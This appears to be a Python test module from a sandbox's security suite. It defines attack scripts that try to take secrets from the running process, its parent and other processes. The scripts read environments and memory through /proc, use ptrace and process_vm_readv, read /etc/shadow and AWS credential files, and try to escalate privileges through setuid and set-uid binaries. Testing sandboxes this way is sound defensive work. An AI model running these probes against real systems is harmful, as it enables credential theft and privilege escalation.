"""Scripts that look for secrets: in their own process, in the runner's, in its files and in those of others."""

from tests.security.attack import Attack, End, Weakness

_SAME_FILES = Weakness(
    unless=("own_user", "landlock"),
    reason="A script that shares the runner's uid reads what the runner may read.",
    remains="The function's files are code without secrets, and the environment serves one run.",
    loot=True,
    stolen=("file",),
)

# ctypes structures of process_vm_readv(2), and the memory that a process may guess another to have.
_VM = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)

class Span(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

def spans():
    for line in open("/proc/self/maps"):
        low, high = (int(end, 16) for end in line.split()[0].split("-"))
        if line.split()[1].startswith("r") and "[v" not in line:
            yield low, high - low
"""

ATTACKS = (
    Attack(
        name="own-environment",
        threats=("T1",),
        bites=True,
        code="""
import ctypes, subprocess

@attempt
def environ():
    return find(repr(dict(os.environ)) + repr(dict(os.environb)))

@attempt
def posix():
    import posix
    return find(repr(posix.environ))

@attempt
def proc_self():
    return read("/proc/self/environ") or read("/proc/thread-self/environ")

@attempt
def libc_environ():
    table, n, all_of_it = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ"), 0, b""
    while table[n]:
        all_of_it, n = all_of_it + table[n], n + 1
    return find(all_of_it)

@attempt
def getenv():
    getenv = ctypes.CDLL(None).getenv
    getenv.restype = ctypes.c_char_p
    names = ("AWS_SECRET_ACCESS_KEY", "AWS_ACCESS_KEY_ID", "AWS_SESSION_TOKEN", "AWS_LAMBDA_RUNTIME_API",
             "AWS_CONTAINER_CREDENTIALS_FULL_URI", "AWS_WEB_IDENTITY_TOKEN_FILE")
    return [value for name in names if (value := getenv(name.encode()))]

@attempt
def child_environment():
    return find(subprocess.run(["env"], capture_output=True).stdout)

@attempt
def names():
    return sorted(set(os.environ) - {"HOME", "LANG", "LC_CTYPE", "LD_LIBRARY_PATH", "PATH", "TMPDIR"})
""",
    ),
    Attack(
        name="parent-environment",
        threats=("T1", "T2"),
        bites=True,
        code="""
import subprocess
parent = os.getppid()

@attempt
def environ():
    return read(f"/proc/{parent}/environ")

@attempt
def of_its_threads():
    return [read(f"/proc/{parent}/task/{thread}/environ") for thread in os.listdir(f"/proc/{parent}/task")]

@attempt
def roundabout():
    return read(f"/proc/self/../{parent}/environ")

@attempt
def in_time():
    for _ in range(200):
        try:
            return read(f"/proc/{parent}/environ")
        except PermissionError:
            pass

@attempt
def ps():
    return find(subprocess.run(["ps", "eww", "-p", str(parent)], capture_output=True).stdout)
""",
    ),
    Attack(
        name="parent-memory",
        threats=("T2",),
        bites=True,
        code="""
parent = os.getppid()

@attempt
def mem():
    with open(f"/proc/{parent}/mem", "rb", 0) as memory:
        for line in open("/proc/self/maps"):
            memory.seek(int(line.split("-")[0], 16))
            if found := find(memory.read(1 << 20)):
                return found

@attempt
def opened():
    return os.open(f"/proc/{parent}/mem", os.O_RDWR)

@attempt
def by_its_maps():
    with open(f"/proc/{parent}/maps") as maps, open(f"/proc/{parent}/mem", "rb", 0) as memory:
        for line in maps:
            if "rw" in line:
                low, high = (int(end, 16) for end in line.split()[0].split("-"))
                memory.seek(low)
                if found := find(memory.read(min(high - low, 1 << 24))):
                    return found

@attempt
def of_its_threads():
    for thread in os.listdir(f"/proc/{parent}/task"):
        return os.open(f"/proc/{parent}/task/{thread}/mem", os.O_RDONLY)
""",
    ),
    Attack(
        name="parent-virtual-memory-calls",
        threats=("T2", "T16"),
        bites=True,
        code=_VM
        + """
parent = os.getppid()

@attempt
def readv():
    for low, length in spans():
        here = ctypes.create_string_buffer(length)
        mine, theirs = Span(ctypes.addressof(here), length), Span(low, length)
        if libc.process_vm_readv(parent, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0) > 0:
            return "read"

@attempt
def errors():
    refused = {1, 3, 38}
    here = ctypes.create_string_buffer(8)
    for call in (libc.process_vm_readv, libc.process_vm_writev):
        mine, theirs = Span(ctypes.addressof(here), 8), Span(ctypes.addressof(here), 8)
        if call(parent, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0) >= 0 or ctypes.get_errno() not in refused:
            return f"{call.__name__}: {ctypes.get_errno()}"
""",
    ),
    Attack(
        name="parent-traced",
        threats=("T2", "T14", "T16"),
        patience=3.0,
        bites=True,
        code="""
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
parent = os.getppid()
ATTACH, SEIZE, PEEK = 16, 0x4206, 2

@attempt
def attach():
    return libc.ptrace(ATTACH, parent, None, None) == 0 and "attached"

@attempt
def seize():
    return libc.ptrace(SEIZE, parent, None, None) == 0 and "seized"

@attempt
def threads():
    return [t for t in os.listdir(f"/proc/{parent}/task") if libc.ptrace(SEIZE, int(t), None, None) == 0]

@attempt
def compared():
    # KCMP_FILE tells whether two processes share an open file, which also wants the right to trace.
    number = {"x86_64": 312, "aarch64": 272}[os.uname().machine]
    return libc.syscall(number, os.getpid(), parent, 0, 0, 0) >= 0 and "compared"
""",
    ),
    Attack(
        name="parent-descriptors",
        threats=("T2",),
        bites=True,
        code="""
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
parent = os.getppid()

@attempt
def inherited():
    kinds = [os.readlink(f"/proc/self/fd/{n}").split(":")[0] for n in os.listdir("/proc/self/fd")
             if os.path.lexists(f"/proc/self/fd/{n}")]
    return [kind for kind in kinds if kind != "pipe"]

@attempt
def listed():
    return os.listdir(f"/proc/{parent}/fd")

@attempt
def described():
    return os.listdir(f"/proc/{parent}/fdinfo")

@attempt
def opened():
    for number in range(64):
        try:
            return os.open(f"/proc/{parent}/fd/{number}", os.O_RDONLY | os.O_NONBLOCK)
        except OSError:
            pass

@attempt
def taken():
    handle = os.pidfd_open(parent)
    for number in range(64):
        if (mine := libc.syscall(438, handle, number, 0)) >= 0:
            return mine

@attempt
def mapped():
    return os.listdir(f"/proc/{parent}/map_files")

""",
    ),
    Attack(
        name="parent-accounts",
        threats=("T2",),
        bites=True,
        code="""
parent = os.getppid()
names = ("auxv", "maps", "smaps", "smaps_rollup", "numa_maps", "pagemap", "stack", "syscall", "personality", "io",
         "clear_refs", "mountstats", "attr/current", "timers", "patch_state", "projid_map")

@attempt
def readable():
    got = []
    for name in names:
        try:
            with open(f"/proc/{parent}/{name}", "rb") as file:
                if file.read(4096):
                    got.append(name)
        except OSError:
            pass
    return [name for name in got if name not in ("timers", "projid_map", "mountstats", "attr/current")]

@attempt
def links():
    got = []
    for name in ("cwd", "root", "exe", "ns/net", "ns/user"):
        try:
            got.append(os.readlink(f"/proc/{parent}/{name}"))
        except OSError:
            pass
    return got

@attempt
def command_line():
    return read(f"/proc/{parent}/cmdline") or read(f"/proc/{parent}/status") or read(f"/proc/{parent}/stat")
""",
    ),
    Attack(
        name="every-process",
        threats=("T1", "T2", "T15"),
        bites=True,
        code="""
for name in ("environ", "cmdline", "maps", "auxv", "mem"):
    def of_all():
        for pid in os.listdir("/proc"):
            if pid.isdigit() and int(pid) != os.getpid():
                try:
                    with open(f"/proc/{pid}/{name}", "rb", 0) as file:
                        if found := find(file.read(1 << 20) if name != "mem" else b""):
                            return f"{pid}: {found}"
                except OSError:
                    pass
    of_all.__name__ = name
    attempt(of_all)

@attempt
def files_held():
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) != os.getpid():
            try:
                for number in os.listdir(f"/proc/{pid}/fd"):
                    if found := read(f"/proc/{pid}/fd/{number}"):
                        return found
            except OSError:
                pass
""",
    ),
    Attack(
        name="own-memory",
        threats=("T1", "T2"),
        code=_VM
        + """
@attempt
def scanned():
    with open("/proc/self/mem", "rb", 0) as memory:
        for low, length in list(spans()):
            memory.seek(low)
            try:
                if found := find(memory.read(min(length, 1 << 24))):
                    return found
            except OSError:
                pass

@attempt
def leftovers_on_the_stack():
    import gc
    for thing in gc.get_objects():
        if isinstance(thing, (dict, list, tuple)) and (found := find(repr(thing)[:100000])):
            return found
""",
    ),
    Attack(
        name="frames-of-the-bootstrap",
        threats=("T2", "T12"),
        code="""
import gc, sys

@attempt
def frames():
    frame = sys._getframe()
    while frame is not None:
        for scope in (frame.f_locals, frame.f_globals):
            if found := find(repr({name: repr(value)[:5000] for name, value in list(scope.items())})):
                return found
        frame = frame.f_back

@attempt
def subclasses():
    for kind in object.__subclasses__():
        start = getattr(kind, "__init__", None)
        scope = getattr(start, "__globals__", {})
        if found := find(repr(scope.get("environ", ""))):
            return found

@attempt
def modules_of_the_runner():
    return sorted(name for name in sys.modules if name.split(".")[0] in ("sandbox_lambda", "awslambdaric", "boto3"))

@attempt
def importable():
    for name in ("sandbox_lambda", "awslambdaric", "boto3", "botocore", "service", "pip"):
        try:
            __import__(name)
            return name
        except ImportError:
            pass
""",
    ),
    Attack(
        name="first-process",
        threats=("T1", "T2", "T14"),
        code="""
for name in ("environ", "mem", "maps", "auxv", "stack"):
    def of_init():
        with open(f"/proc/1/{name}", "rb", 0) as file:
            file.seek(0)
            return "opened"
    of_init.__name__ = name
    attempt(of_init)

@attempt
def descriptors():
    return os.listdir("/proc/1/fd")

@attempt
def root():
    return os.listdir("/proc/1/root/root") or os.readlink("/proc/1/cwd")

@attempt
def signalled():
    os.kill(1, 0)
    return "may signal"
""",
    ),
    Attack(
        name="runners-files",
        threats=("T1", "T2", "T15"),
        bites=True,
        code="""
secret = event["folder"] + "/secret"

@attempt
def plainly():
    return read(secret)

@attempt
def by_symbolic_link():
    os.symlink(secret, "link")
    return read("link")

@attempt
def by_hard_link():
    os.link(secret, "hard")
    return read("hard")

@attempt
def through_proc():
    return read(f"/proc/self/root{secret}") or read(f"/proc/{os.getppid()}/root{secret}")

@attempt
def by_a_program():
    import subprocess
    return find(subprocess.run(["cat", secret], capture_output=True).stdout)

@attempt
def renamed_here():
    os.rename(secret, "mine")
    return read("mine")
""",
        weaker=(
            Weakness(
                unless=("own_user", "landlock"),
                reason="A script that shares the runner's uid reads and moves what the runner may read and write.",
                remains="The function's files are code without secrets and read-only, and serve one run.",
                loot=True,
                stolen=("file",),
                changed=("files",),
            ),
        ),
    ),
    Attack(
        name="files-of-the-machine",
        threats=("T1", "T2"),
        code="""
@attempt
def closed_files():
    got = []
    for path in ("/etc/shadow", "/etc/gshadow", "/etc/sudoers", "/root", "/root/.ssh", "/var/log/btmp", "/dev/mem",
                 "/proc/kcore", "/dev/vda", "/var/lib/private", "/etc/ssl/private", "/var/spool/cron/crontabs",
                 "/tmp/plinth-sandbox/users/60600"):
        try:
            os.listdir(path) if os.path.isdir(path) else open(path, "rb").read(1)
            got.append(path)
        except OSError:
            pass
    return got

@attempt
def by_handle():
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    number = {"x86_64": 304, "aarch64": 265}[os.uname().machine]
    handle = (ctypes.c_uint32 * 4)(8, 1, 2, 0)
    return libc.syscall(number, os.open("/", os.O_RDONLY), handle, 0) >= 0 and "opened"
""",
    ),
    Attack(
        name="credentials-of-the-sdk",
        threats=("T1", "T7"),
        bites=True,
        code="""
import pwd

@attempt
def shared_file():
    got = []
    homes = [event["folder"], os.path.expanduser("~"), "/root", "/home/sbx_user1051", *(p.pw_dir for p in pwd.getpwall())]
    for home in homes:
        for name in (".aws/credentials", ".aws/config", ".aws/sso/cache", ".boto", ".netrc", ".pgpass", ".docker"):
            try:
                got.append(read(f"{home}/{name}"))
            except OSError:
                pass
    return [secret for secret in got if secret]

@attempt
def named_by_the_environment():
    return [os.environ[name] for name in os.environ if name.startswith(("AWS_", "_X_AMZN", "LAMBDA_"))]

@attempt
def function_code():
    for folder in ("/var/task", "/var/runtime", "/opt"):
        for root, _, names in os.walk(folder):
            for name in names:
                try:
                    if found := read(f"{root}/{name}"):
                        return found
                except OSError:
                    pass
""",
        weaker=(
            Weakness(
                unless=("own_user", "landlock"),
                reason=_SAME_FILES.reason,
                remains="Lambda hands credentials over in the environment only, and the role has no rights.",
                loot=True,
                stolen=("home",),
            ),
        ),
    ),
    Attack(
        name="other-runs-folders",
        threats=("T15",),
        bites=True,
        code="""
@attempt
def neighbour():
    return read(event["neighbour"] + "/secret")

@attempt
def all_of_tmp():
    for entry in os.scandir("/tmp"):
        if entry.is_dir() and entry.name.startswith("plinth-run-") and entry.path != os.getcwd():
            if names := os.listdir(entry.path):
                return entry.path, names

@attempt
def opened_up():
    os.chmod(event["neighbour"], 0o777)
    return "changed"

@attempt
def through_its_processes():
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) != os.getpid():
            try:
                if found := read(f"/proc/{pid}/cwd/secret"):
                    return found
            except OSError:
                pass
""",
        weaker=(
            Weakness(
                unless=("own_user",),
                reason="Runs that share a uid share /tmp, which Landlock leaves open.",
                remains="An environment of Lambda runs one request at a time and serves one run.",
                loot=True,
                stolen=("neighbour",),
                changed=("files",),
            ),
        ),
    ),
    Attack(
        name="kernel-keyrings",
        threats=("T1", "T15", "T16"),
        code="""
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
keyctl = {"x86_64": 250, "aarch64": 219}[os.uname().machine]
READ, DESCRIBE = 11, 6

@attempt
def keyrings():
    got = []
    for ring in (-1, -2, -3, -4, -5):
        room = ctypes.create_string_buffer(4096)
        length = libc.syscall(keyctl, READ, ring, room, 4096)
        ids = [int.from_bytes(room.raw[at:at + 4], "little") for at in range(0, max(0, length), 4)]
        for key in ids:
            if libc.syscall(keyctl, READ, key, room, 4096) > 0 and find(room.raw):
                got.append(ring)
    return got
""",
    ),
    Attack(
        name="core-dump",
        threats=("T1", "T2"),
        code="""
import os, resource
print(resource.getrlimit(resource.RLIMIT_CORE), os.listdir("."))
if os.fork() == 0:
    os.abort()
os.wait()
print(os.listdir("."))
os.abort()
""",
        ends=End(status="failed", signal=6, result=None, stdout="(0, 0) []\n[]\n"),
    ),
    Attack(
        name="higher-privileges",
        threats=("T2", "T16"),
        code="""
import ctypes, subprocess
libc = ctypes.CDLL(None, use_errno=True)

@attempt
def root():
    os.setuid(0)
    return "root"

@attempt
def others():
    for user in (0, 1, 1000, 65534):
        for deed in (os.seteuid, os.setegid, lambda n: os.setresuid(n, n, n), lambda n: os.setgroups([n])):
            try:
                deed(user)
                return user
            except OSError:
                pass

@attempt
def capabilities():
    status = open("/proc/self/status").read()
    return [line for line in status.splitlines() if line.startswith(("CapPrm", "CapEff", "CapAmb"))
            and int(line.split()[1], 16)]

@attempt
def set_uid_programs():
    for command in (["su", "-c", "id -u"], ["sudo", "-n", "id", "-u"], ["passwd", "-S"], ["mount"], ["newgrp"]):
        try:
            done = subprocess.run(command, capture_output=True, stdin=subprocess.DEVNULL, timeout=0.2)
        except (OSError, subprocess.TimeoutExpired):
            continue
        if done.stdout.strip() == b"0":
            return command

@attempt
def privileges_gained():
    return "NoNewPrivs:\\t1" not in open("/proc/self/status").read() and "may gain privileges"

@attempt
def made_one():
    import shutil
    shutil.copy("/bin/sh", "sh")
    os.chmod("sh", 0o6755)
    return os.stat("sh").st_uid != os.getuid() and "set-uid to another"
""",
    ),
)
